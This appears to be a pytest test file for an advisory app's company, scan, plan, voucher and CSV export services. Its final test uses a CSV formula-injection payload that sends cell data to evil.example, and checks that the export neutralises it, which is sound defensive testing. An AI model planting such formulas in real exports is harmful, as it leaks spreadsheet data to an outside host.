"""The use cases the UI and the command line share."""

from __future__ import annotations

import csv
import uuid
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from advisor_app.domain.csvcells import FORMULA_STARTS, csv_dialect, read_number_cell
from advisor_app.domain.invariants import RuleError
from advisor_app.domain.text import active_language
from advisor_app.errors import DuplicateError, NotFoundError, StateError, ValidationError
from advisor_app.services.companies import CompanyInput
from advisor_app.services.export import export_all
from advisor_app.services.views import ScanRecord
from advisor_app.store.models import Scan
from advisor_app.workspace import Workspace


def complete_scan(workspace: Workspace, company_id: uuid.UUID, score: int = 3) -> ScanRecord:
    scan = workspace.scans.start(company_id, "Ingrid")
    for item_id in workspace.questionnaire.item_ids:
        workspace.scans.answer(scan.id, item_id, score)
    return workspace.scans.complete(scan.id)


def test_company_kvk_is_normalised_and_a_second_company_with_it_is_refused(
    workspace: Workspace, company_input: CompanyInput
) -> None:
    first = workspace.companies.create(company_input)
    assert first.kvk == "12345678"
    assert first.size_band == "10-49"
    assert first.consent_at is not None
    with pytest.raises(DuplicateError) as caught:
        workspace.companies.create(replace(company_input, name="Other B.V.", kvk="12.34.56.78"))
    assert caught.value.field == "kvk"
    assert "Coöperatie Zoë's Bouw en Installatie" in str(caught.value)
    assert len(workspace.companies.list()) == 1


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"kvk": "1234567"}, "kvk"),
        ({"kvk": "1234567a"}, "kvk"),
        ({"name": "  "}, "name"),
        ({"email": "zoe@"}, "email"),
        ({"sector": "mining"}, "sector"),
    ],
)
def test_invalid_company_input_names_the_field(
    workspace: Workspace, company_input: CompanyInput, change: dict[str, Any], field: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        workspace.companies.create(replace(company_input, **change))
    assert caught.value.field == field
    assert workspace.companies.list() == []


def test_search_update_and_erase(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    workspace.companies.update(company.id, replace(company_input, municipality="Amersfoort"))
    assert [c.name for c in workspace.companies.list("amersfoort")] == [company.name]
    assert workspace.companies.list("nothing like it") == []
    complete_scan(workspace, company.id)
    workspace.companies.delete(company.id)
    assert workspace.companies.list() == []
    assert workspace.scans.summaries() == []
    with pytest.raises(NotFoundError):
        workspace.companies.get(company.id)
    workspace.companies.create(company_input)  # the KvK is free again once erased


def test_completing_needs_enough_answers_in_every_capability_dimension(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    scan = workspace.scans.start(company.id)
    for item_id in workspace.questionnaire.item_ids:
        if not item_id.startswith(("D2", "D6")):
            workspace.scans.answer(scan.id, item_id, 4)
    workspace.scans.answer(scan.id, "D2.1", 4)
    workspace.scans.answer(scan.id, "D2.2", None, not_applicable=True)
    with pytest.raises(RuleError, match=r"too few scores in D2 \(\+2\)"):
        workspace.scans.complete(scan.id)
    workspace.scans.answer(scan.id, "D2.3", 2)
    workspace.scans.answer(scan.id, "D2.4", 3)
    completed = workspace.scans.complete(scan.id)
    assert completed.status == "completed"
    result = workspace.scans.result(workspace.scans.get(scan.id))
    assert result.dimension("D6").mean is None
    assert result.sii == pytest.approx((4 * 4 + 3) / 5)


def test_a_completed_scan_is_frozen_and_a_revision_copies_it(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    original = complete_scan(workspace, company.id, score=2)
    workspace_scan = workspace.scans.get(original.id)
    with pytest.raises(RuleError, match=r"^This scan was completed and is frozen; make a revision to correct it$"):
        workspace.scans.answer(original.id, "D1.1", 5)
    revision = workspace.scans.revise(original.id)
    assert workspace.scans.revise(original.id).id == revision.id  # one open revision at a time
    assert revision.revision_of_id == original.id
    assert workspace.scans.get(revision.id).answers == workspace_scan.answers
    workspace.scans.answer(revision.id, "D1.1", 5)
    assert workspace.scans.get(original.id).answers["D1.1"] == 2


def test_a_later_scan_follows_up_the_last_completed_one(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    first = complete_scan(workspace, company.id, score=2)
    second = workspace.scans.start(company.id)
    assert second.follow_up_of_id == first.id
    view = workspace.scans.get(second.id)
    previous = workspace.scans.previous(view)
    assert previous is not None
    assert previous.scan.id == first.id


def test_answers_notes_intake_and_ambitions_are_validated(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    scan = workspace.scans.start(company.id)
    with pytest.raises(ValidationError, match="not between 1 and 5"):
        workspace.scans.answer(scan.id, "D1.1", 6)
    with pytest.raises(ValidationError, match="Unknown item"):
        workspace.scans.answer(scan.id, "D9.9", 3)
    with pytest.raises(ValidationError):
        workspace.scans.set_intake(scan.id, {"turnover_new_pct": 140})
    with pytest.raises(ValidationError):
        workspace.scans.set_ambition(scan.id, "D1", 4)
    workspace.scans.note(scan.id, "D1.2", "  Zoë: één team, één visie  ")
    workspace.scans.set_intake(scan.id, {"turnover_new_pct": "15", "size_class": "10-49"})
    workspace.scans.set_ambition(scan.id, "D1", 3)
    view = workspace.scans.get(scan.id)
    assert view.notes == {"D1.2": "Zoë: één team, één visie"}
    assert view.answers == {}
    assert view.scan.intake == {"size_class": "10-49", "turnover_new_pct": 15}
    assert view.ambitions == {"D1": 3}
    assert view.scan.position == "D1.2"


def test_voucher_limit_one_per_company_and_status_flow(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    with pytest.raises(ValidationError, match=r"above the maximum of €4,000\.00"):
        workspace.vouchers.request(company.id, 4_000_01)
    voucher = workspace.vouchers.request(company.id, 4_000_00, own_contribution_cents=1_500_00, supplier="TNO")
    with pytest.raises(RuleError, match=r"^This company already has a voucher; one voucher per company$"):
        workspace.vouchers.request(company.id, 1_000_00)
    with pytest.raises(ValidationError, match="cannot go from 'draft' to 'approved'"):
        workspace.vouchers.set_status(voucher.id, "approved")
    workspace.vouchers.set_status(voucher.id, "submitted")
    with pytest.raises(StateError):
        workspace.vouchers.update(voucher.id, amount_cents=3_000_00)
    workspace.vouchers.set_status(voucher.id, "rejected")
    assert workspace.vouchers.request(company.id, 2_500_00).status == "draft"


def test_plan_from_result_takes_the_improvement_areas(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    scan = workspace.scans.start(company.id)
    for item_id in workspace.questionnaire.item_ids:
        workspace.scans.answer(scan.id, item_id, 1 if item_id.startswith("D3") else 4)
    workspace.scans.complete(scan.id)
    result = workspace.scans.result(workspace.scans.get(scan.id))
    plan = workspace.plans.create_from_result(scan.id, result, language="en")
    assert plan.actions[0].dimension_id == "D3"
    assert len(plan.actions) == 3, "D3's three lowest items; D1 scored 4 everywhere, so it has no standard action"
    action = workspace.plans.add_action(plan.id, "Workshop met het team", owner="Zoë")
    workspace.plans.update_action(action.id, status="done")
    with pytest.raises(ValidationError):
        workspace.plans.update_action(action.id, status="finished")
    assert [a.status for a in workspace.plans.get(plan.id).actions][-1] == "done"


def test_pending_changes_count_rows_not_yet_synced(workspace: Workspace, company_input: CompanyInput) -> None:
    assert workspace.pending_changes() == 0
    company = workspace.companies.create(company_input)
    workspace.scans.start(company.id)
    assert workspace.pending_changes() == 2


def test_local_benchmark_counts_each_company_once_with_its_latest_completed_scan(demo_workspace: Workspace) -> None:
    completed = demo_workspace.scans.summaries(status="completed")
    latest = {s.company_id: s for s in sorted(completed, key=lambda s: s.completed_at or s.started_at)}
    groups = demo_workspace.benchmarks.groups(demo_workspace.questionnaire)
    assert groups["programme"].n == len(latest) < len(completed)
    assert sum(g.n for key, g in groups.items() if key != "programme") == len(latest)
    construction = [s.result.dimension("D1").mean for s in latest.values() if s.sector == "construction"]
    assert groups["construction"].means["D1"] == pytest.approx(sum(m for m in construction if m) / len(construction))
    one = next(iter(latest.values()))
    assert demo_workspace.benchmarks.groups(demo_workspace.questionnaire, one.company_id)["programme"].n == len(latest) - 1


def test_local_benchmark_follows_a_newly_completed_scan(demo_workspace: Workspace, company_input: CompanyInput) -> None:
    before = demo_workspace.benchmarks.groups(demo_workspace.questionnaire)["programme"].n
    company = demo_workspace.companies.create(replace(company_input, kvk="87654321"))
    complete_scan(demo_workspace, company.id, score=5)
    after = demo_workspace.benchmarks.groups(demo_workspace.questionnaire)
    assert after["programme"].n == before + 1
    assert after["construction"].means["D1"] > 1.0


# -- the rulebook on the device: the same functions, the same words as the server (tests/server/test_rules_enforced.py)


def test_only_the_current_completed_scan_is_revised(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    draft = workspace.scans.start(company.id)
    with pytest.raises(RuleError, match=r"^Only a completed scan can be revised$"):
        workspace.scans.revise(draft.id)
    workspace.scans.delete(draft.id)
    original = complete_scan(workspace, company.id)
    revision = workspace.scans.revise(original.id)
    for item_id in workspace.questionnaire.item_ids:
        workspace.scans.answer(revision.id, item_id, 4)
    workspace.scans.complete(revision.id)
    with pytest.raises(RuleError, match=r"^This scan was already replaced by a completed revision; revise the newest revision$"):
        workspace.scans.revise(original.id)
    assert workspace.scans.revise(revision.id).revision_of_id == revision.id
    assert workspace.scans.start(company.id).follow_up_of_id == revision.id, "the follow-up compares with the correction"


def test_a_scan_is_not_completed_before_it_started(workspace: Workspace, company_input: CompanyInput) -> None:
    """A laptop whose clock was set back between starting and completing."""
    company = workspace.companies.create(company_input)
    scan = workspace.scans.start(company.id)
    for item_id in workspace.questionnaire.item_ids:
        workspace.scans.answer(scan.id, item_id, 3)
    with workspace.db.session() as session:
        stored = session.get(Scan, scan.id)
        assert stored is not None
        stored.started_at = datetime.now(UTC) + timedelta(hours=2)
    with pytest.raises(RuleError, match=r"^The scan cannot be completed before it was started$"):
        workspace.scans.complete(scan.id)


def test_plans_and_vouchers_stay_within_their_company(workspace: Workspace, company_input: CompanyInput) -> None:
    first = workspace.companies.create(company_input)
    second = workspace.companies.create(replace(company_input, name="Other B.V.", kvk="87654321"))
    scan = complete_scan(workspace, first.id)
    with pytest.raises(RuleError, match=r"^The scan belongs to another company than this plan$") as caught:
        workspace.plans.create(second.id, "Plan", scan_id=scan.id)
    assert caught.value.field == "scan_id"
    plan = workspace.plans.create(first.id, "Plan", scan_id=scan.id)
    with pytest.raises(RuleError, match=r"^The plan belongs to another company than this voucher$"):
        workspace.vouchers.request(second.id, 2_000_00, plan_id=plan.id)
    assert workspace.vouchers.request(first.id, 2_000_00, plan_id=plan.id).plan_id == plan.id


def test_the_own_contribution_is_not_more_than_the_voucher(workspace: Workspace, company_input: CompanyInput) -> None:
    company = workspace.companies.create(company_input)
    with pytest.raises(RuleError, match=r"^The own contribution is more than the voucher amount$") as caught:
        workspace.vouchers.request(company.id, 1_000_00, own_contribution_cents=1_000_01)
    assert caught.value.field == "own_contribution"
    voucher = workspace.vouchers.request(company.id, 1_000_00, own_contribution_cents=1_000_00)
    with pytest.raises(RuleError, match="more than the voucher amount"):
        workspace.vouchers.update(voucher.id, amount_cents=500_00)
    assert workspace.vouchers.for_company(company.id)[0].amount_cents == 1_000_00


def test_the_csv_export_neutralises_formulas(workspace: Workspace, company_input: CompanyInput, tmp_path: Path) -> None:
    """A company name from a registration list must not run as a formula in the coordinator's Excel."""
    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
    company = workspace.companies.create(replace(company_input, name=formula))
    complete_scan(workspace, company.id)
    export_all(workspace, tmp_path / "scans.csv", "csv")
    with (tmp_path / "scans.csv").open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle, delimiter=csv_dialect(active_language()).delimiter))
    assert row["company"] == "'" + formula
    assert not any(value.startswith(FORMULA_STARTS) for value in row.values())
    assert read_number_cell(row["sii"], active_language()) == 50  # "50,0" in Dutch, "50.0" in English
